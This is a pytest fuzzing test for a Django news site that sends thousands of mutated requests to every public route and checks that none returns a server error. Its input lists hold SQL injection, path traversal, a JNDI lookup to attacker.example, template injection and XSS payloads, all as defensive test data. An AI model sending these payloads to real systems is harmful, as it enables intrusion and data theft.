"""The fuzzer: at least 10,000 mutated requests over every public URL pattern, 0 server
errors (issue 13, item 18). Marked ``security``: ``make security`` runs it, ``make test``
does not.

Against a database holding the demo edition, the hostile newsroom (``tests/hostile.py``)
and rows with impossible dates, under production-like settings (``DEBUG=False``, CSRF
enforced, exceptions answered as 500 pages rather than raised), a seeded generator takes a
valid example of each public route and mutates its path segments, query string, headers and
method. ``FUZZ_REQUESTS`` and ``FUZZ_SEED`` change the count and the seed.
"""

import os
import random
import time
import urllib.parse

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from .hostile import BAD_TIMES, HOSTILE_DATE, bad_rows, hostile_newsroom
from .security_report import record
from .xss_corpus import VECTORS

pytestmark = [pytest.mark.security, pytest.mark.django_db]

REQUESTS = int(os.environ.get("FUZZ_REQUESTS", "10000"))
SEED = int(os.environ.get("FUZZ_SEED", "20260401"))

# Junk for a path segment or a query value: edges of every converter, encodings, traversal,
# injections, huge and invalid values.
JUNK = [
    "",
    "0",
    "00",
    "-1",
    "1e9",
    "99999999999999999999",
    "18446744073709551616",
    "0001-01-01",
    "9999-12-31",
    "2024-02-30",
    "2024-13-01",
    "0000-00-00",
    "1899-12-31",
    "2101-01-01",
    "..",
    "../../etc/passwd",
    "%2e%2e%2f%2e%2e%2f",
    "%00",
    "%ff%fe",
    "%c0%ae%c0%ae",
    "%ed%a0%80",
    "%u0000",
    "\x00",
    "\x0b",
    "\ud800",
    "' OR 1=1 --",
    '"; DROP TABLE articles_article; --',
    "1 UNION SELECT password FROM auth_user",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "a" * 5000,
    "要" * 300,
    "𠀀𠀁",
    "\u202e\u200b",
    "//attacker.example",
    "http://attacker.example/",
    "javascript:alert(1)",
    "NaN",
    "None",
    "[]",
    "{}",
    "true",
]
QUERY_KEYS = [
    "q",
    "page",
    "sort",
    "date",
    "start",
    "end",
    "section",
    "author",
    "genre",
    "ban",
    "year",
    "month",
    "format",
    "next",
    "utm_source",
    "page_size",
]
HEADERS = {
    "HTTP_ACCEPT": ["*/*", "text/html", "application/json", "\x00", "a" * 4000],
    "HTTP_ACCEPT_LANGUAGE": ["zh-CN", "en", "xx-YY;q=2", "*;q=nan", "zh" * 500],
    "HTTP_IF_NONE_MATCH": ['W/"x"', "*", '"' + "a" * 2000, "\x00"],
    "HTTP_IF_MODIFIED_SINCE": [
        "Mon, 01 Jan 0001 00:00:00 GMT",
        "Fri, 31 Dec 9999 23:59:59 GMT",
        "yesterday",
        "",
    ],
    "HTTP_RANGE": ["bytes=0-0", "bytes=-1", "bytes=99999999999-"],
    "HTTP_COOKIE": ["sessionid=x", "csrftoken=%ff", "a=" + "b" * 4000, "=;=;"],
    "HTTP_USER_AGENT": ["Mozilla/5.0", "", "<script>alert(1)</script>"],
    "HTTP_REFERER": ["http://attacker.example/", "javascript:alert(1)", "%ff"],
    "HTTP_X_FORWARDED_FOR": ["1.2.3.4", "::1, x", "a" * 300],
    "HTTP_X_FORWARDED_PROTO": ["https", "gopher"],
    "HTTP_HOST": ["testserver", "attacker.example", "testserver:99999", "[::1"],
}
METHODS = ["GET"] * 8 + ["HEAD", "POST", "OPTIONS", "PUT", "DELETE"]


def public_patterns() -> list[str]:
    """Every public route as a template, '{converter}' for each parameter; the admin aside."""
    routes = []

    def walk(patterns, prefix):
        for pattern in patterns:
            route = str(pattern.pattern)
            if route.startswith("admin/"):
                continue
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, prefix + route)
            elif isinstance(pattern, URLPattern):
                routes.append(prefix + route)

    walk(get_resolver().url_patterns, "")
    return routes


def examples(newsroom, rows) -> dict[str, list[str]]:
    """Valid values for each converter, from the data in the database."""
    article = newsroom.articles[0]
    return {
        "isodate": ["2024-04-01", HOSTILE_DATE.isoformat(), rows["edition"].date.isoformat()],
        "pagenum": ["01", "02", "04", "99"],
        "id": [str(article.pk), str(newsroom.articles[-1].pk), str(rows["in_print"].pk)],
        "yyyy": ["2024", "1900", "0001"],
        "mm": ["04", "05", "12"],
        "slug": [newsroom.sections[0].slug, newsroom.authors[0].slug, "yaowen", "x"],
        "str": ["token", "a.b.c"],
        "path": ["articles/x.png", "../settings.py"],
    }


def fill(route: str, values: dict, rng: random.Random, mutate: bool) -> str:
    path = "/" + route.lstrip("^").rstrip("$")
    while "<" in path:
        start = path.index("<")
        end = path.index(">", start)
        converter = path[start + 1 : end].split(":")[0] if ":" in path[start:end] else "str"
        value = rng.choice(values.get(converter, ["x"]))
        if mutate and rng.random() < 0.5:
            value = rng.choice(JUNK + [rng.choice(VECTORS)])
        path = (
            path[:start]
            + urllib.parse.quote(value, safe="%/", errors="surrogatepass")
            + path[end + 1 :]
        )
    if mutate and rng.random() < 0.2:
        segments = path.split("/")
        index = rng.randrange(len(segments))
        segments[index] = urllib.parse.quote(rng.choice(JUNK), safe="%/", errors="surrogatepass")
        path = "/".join(segments)
    return path


def query(rng: random.Random) -> str:
    pairs = []
    for _ in range(rng.choice([0, 1, 1, 2, 3, 6])):
        key = rng.choice(QUERY_KEYS + JUNK[:5])
        value = rng.choice(JUNK + VECTORS[:20] + ["2024-04-01", "1", "辽源", "date"])
        pairs.append((key, value))
    text = urllib.parse.urlencode(pairs, doseq=True, errors="surrogatepass")
    if rng.random() < 0.05:
        text += "&%ff=%fe&&=&q"
    return text


@pytest.fixture
def target(db, demo, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.DEBUG = False
    newsroom = hostile_newsroom(count=6)  # every vector, in fewer and lighter pages
    rows = bad_rows(BAD_TIMES["year 1"])
    return newsroom, rows


def test_fuzzing_every_public_route_gives_no_server_error(target):
    """≥10,000 seeded, mutated requests over every public route: not one 5xx."""
    newsroom, rows = target
    rng = random.Random(SEED)
    routes = public_patterns()
    assert len(routes) >= 30, routes
    values = examples(newsroom, rows)
    client = Client(enforce_csrf_checks=True, raise_request_exception=False)
    failures = []
    started = time.monotonic()
    for n in range(REQUESTS):
        route = routes[n % len(routes)] if n < len(routes) * 3 else rng.choice(routes)
        path = fill(route, values, rng, mutate=n >= len(routes))
        qs = query(rng) if n >= len(routes) else ""
        headers = {}
        if rng.random() < 0.4:
            for name in rng.sample(list(HEADERS), rng.randint(1, 3)):
                headers[name] = rng.choice(HEADERS[name])
        method = rng.choice(METHODS) if n >= len(routes) else "GET"
        url = f"{path}?{qs}" if qs else path
        response = client.generic(method, url, data=b"a=1" if method == "POST" else b"", **headers)
        if response.status_code >= 500:
            failures.append((method, url[:200], headers, response.status_code))
    elapsed = time.monotonic() - started
    record("fuzzer: public routes", REQUESTS, len(failures))
    print(f"{REQUESTS} requests over {len(routes)} routes in {elapsed:.0f} s")
    assert not failures, failures[:20]
